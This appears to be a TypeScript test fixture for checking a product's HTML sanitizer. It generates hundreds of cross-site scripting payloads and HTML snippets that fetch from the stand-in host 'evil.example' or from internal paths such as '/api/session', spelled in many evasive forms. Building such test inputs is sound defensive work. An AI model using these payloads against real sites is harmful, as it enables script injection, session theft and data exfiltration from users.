/**
 * Texts of strangers that a careless page runs, follows or fetches. Each calls `planted()`, which the story counts, or asks
 * a host for something that no page of the product has any business with.
 */

/** Nobody is there; a request to it is a page that called out. */
export const outside = 'evil.example'

const run = 'top.planted()'
const bases = [
  `<script>${run}</script>`,
  `<script src=//${outside}/x.js></script>`,
  `<img src=x onerror=${run}>`,
  `<img src=//${outside}/p.gif>`,
  `<img srcset="https://${outside}/p.gif 1x">`,
  `<svg onload=${run}>`,
  `<svg><script>${run}</script></svg>`,
  `<svg><a xlink:href="javascript:${run}"><text y=9>x</text></a></svg>`,
  `<svg><use href="data:image/svg+xml,<svg id='x' onload='${run}'/>#x"></svg>`,
  `<math><mtext><table><mglyph><style><!--</style><img src=x onerror=${run}>`,
  `<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=${run}>`,
  `<noscript><p title="</noscript><img src=x onerror=${run}>">`,
  `<iframe srcdoc="<script>${run}</script>"></iframe>`,
  `<iframe src="javascript:${run}"></iframe>`,
  `<iframe src=//${outside}/f></iframe>`,
  `<object data="data:text/html,<script>${run}</script>"></object>`,
  `<embed src="javascript:${run}">`,
  `<details open ontoggle=${run}>x</details>`,
  `<input autofocus onfocus=${run}>`,
  `<video><source onerror=${run}></video>`,
  `<audio src=x onerror=${run}></audio>`,
  `<body onload=${run}>`,
  `<marquee onstart=${run}>x</marquee>`,
  `<style>@import url(https://${outside}/s.css);</style>`,
  `<style>*{background:url(//${outside}/b)}</style>`,
  `<p style="background:url(//${outside}/b);animation:x" onanimationstart=${run}>x</p>`,
  `<link rel=stylesheet href=//${outside}/s.css>`,
  `<link rel=prefetch href=//${outside}/s>`,
  `<meta http-equiv=refresh content="0;url=https://${outside}/">`,
  `<base href=https://${outside}/>`,
  `<a href="javascript:${run}">x</a>`,
  `<a href="data:text/html,<script>${run}</script>">x</a>`,
  `<form action=https://${outside}/><button autofocus>x</button></form>`,
  `javascript:${run}`,
  `[x](javascript:${run})`,
  `![x](https://${outside}/p.gif)`,
  `{{constructor.constructor('${run}')()}}`,
  `\${${run}}$t(screens:brand)<1>x</1>`,
  `" onmouseover=${run} style=position:fixed;inset:0 x="`,
  `' autofocus onfocus=${run} x='`,
] as const

const ways: readonly ((text: string) => string)[] = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}`,
  (text) => `</textarea></title></script>${text}`,
  (text) => `--!>${text}`,
  (text) => text.replace(/<\w+/g, (tag) => [...tag].map((one, at) => (at % 2 ? one.toUpperCase() : one)).join('')),
  (text) => text.replaceAll('<', '＜').replaceAll('>', '＞'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('"', '&quot;'),
  (text) => text.replaceAll(' ', '/').replaceAll('=', ' ='),
]

/** 360 of them. */
export const hostileTexts: readonly string[] = ways.flatMap((way) => bases.map(way))

/** The first that fit into a field, from one on: another field shows another. @param most letters */
export function hostileText(most: number, at: number): string {
  const fitting = hostileTexts.filter((text) => text.length <= most)
  return fitting[at % fitting.length] ?? 'x'
}

const targets = [
  `http://${outside}/p`,
  `http:${outside}/p`,
  `https:/${outside}/p`,
  `//${outside}/p`,
  `\\\\${outside}\\p`,
  `/\\${outside}/p`,
  '/api/session',
  '../api/cases',
  'cid:../../api/me',
  'cid:%2e%2e/api/me',
  `blob:https://${outside}/p`,
  `ftp://${outside}/p`,
  `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg'><image href='https://${outside}/p'/></svg>`,
]
const carriers: readonly ((url: string) => string)[] = [
  (url) => `<img src="${url}">`,
  (url) => `<img srcset="${url} 2x">`,
  (url) => `<img src="x" lowsrc="${url}" dynsrc="${url}">`,
  (url) => `<body background="${url}"><table background="${url}"><tr><td background="${url}">x</table>`,
  (url) => `<link rel="stylesheet" href="${url}"><link rel="icon" href="${url}">`,
  (url) =>
    `<style>@import "${url}"; * { background: url("${url}") } @font-face { font-family: a; src: url("${url}") }</style>`,
  (url) => `<p style="background-image:url('${url}')">x</p>`,
  (url) => `<meta http-equiv="refresh" content="0;url=${url}">`,
  (url) => `<form action="${url}"><input type="image" src="${url}"></form>`,
  (url) => `<svg><image href="${url}"/><use xlink:href="${url}"/></svg>`,
  (url) => `<math href="${url}">x</math>`,
  (url) => `<base href="${url}"><img src="p">`,
  (url) => `<video src="${url}" poster="${url}"></video><audio src="${url}"></audio><embed src="${url}">`,
  (url) => `<object data="${url}"></object><iframe src="${url}"></iframe><applet code="${url}"></applet>`,
  (url) => `<picture><source srcset="${url}"><img src="${url}"></picture>`,
]
const spellings: readonly ((url: string) => string)[] = [
  (url) => url,
  (url) => url.replace(/[a-z]/, (one) => `&#${one.charCodeAt(0)};`),
  (url) => `\t${url.slice(0, 3)}\n${url.slice(3)}`,
]

/** Pages of HTML that want something from somewhere as soon as they are looked at: 585 pieces. */
export const callingHtml: string = carriers
  .flatMap((carry) => targets.flatMap((target) => spellings.map((spell) => carry(spell(target)))))
  .join('\n')
